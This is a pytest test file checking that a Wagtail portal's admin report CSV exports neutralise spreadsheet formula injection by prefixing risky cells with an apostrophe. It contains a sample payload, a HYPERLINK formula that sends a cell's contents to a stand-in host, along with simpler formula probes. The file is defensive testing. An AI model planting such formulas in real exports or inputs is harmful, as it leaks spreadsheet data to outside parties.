"""Every admin report's CSV download writes what people typed as text, never as a formula."""

import csv
import io

import pytest

from learning.factories import LearningNotePageFactory
from portal.core.reports import as_text_in_a_spreadsheet

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("http://127.0.0.1:8399/?x="&A1,"Open report")'


def cells(response):
    text = b"".join(response.streaming_content).decode()
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def test_wagtails_own_site_history_download_writes_a_formula_title_as_text(client, django_user_model, learning_index):
    """The attacker's second review: a member's post titled with a formula reached Site history's CSV as one."""
    page = LearningNotePageFactory(parent=learning_index, title=FORMULA)
    page.save_revision().publish()
    client.force_login(django_user_model.objects.create_superuser("admin", "admin@example.org", "pw"))
    response = client.get("/admin/reports/site-history/", {"export": "csv"})
    assert response.status_code == 200
    found = cells(response)
    assert "'" + FORMULA in found
    assert not [cell for cell in found if cell[:1] in ("=", "+", "-", "@")]


@pytest.mark.parametrize("value", ["=1+1", "+1", "-2+3", "@SUM(1)", "\t=1", "\r=1"])
def test_a_cell_starting_like_a_formula_gets_an_apostrophe(value):
    assert as_text_in_a_spreadsheet(value) == "'" + value


@pytest.mark.parametrize("value", ["falls", "bed rails", 12, None, "1-2"])
def test_other_cells_are_written_as_they_are(value):
    assert as_text_in_a_spreadsheet(value) == value


def test_the_workflow_report_download_writes_a_formula_title_as_text(client, django_user_model, learning_index):
    """The third attacker review: a post titled "=2+3" sent for review reached the workflow report's CSV bare,
    because that report turns each page into its title after the row is read."""
    from wagtail.models import GroupApprovalTask, Workflow, WorkflowPage, WorkflowTask

    page = LearningNotePageFactory(parent=learning_index, title="=2+3")
    page.save_revision()
    workflow = Workflow.objects.create(name="Formula check")
    task = GroupApprovalTask.objects.create(name="Approve")
    WorkflowTask.objects.create(workflow=workflow, task=task, sort_order=0)
    WorkflowPage.objects.update_or_create(page=learning_index, defaults={"workflow": workflow})
    workflow.start(page, django_user_model.objects.create_user("grace", password="pw"))
    client.force_login(django_user_model.objects.create_superuser("admin", "admin@example.org", "pw"))
    response = client.get("/admin/reports/workflow/", {"export": "csv"})
    assert response.status_code == 200
    found = cells(response)
    assert "'=2+3" in found, found
    assert not [cell for cell in found if cell[:1] in ("=", "+", "-", "@")]
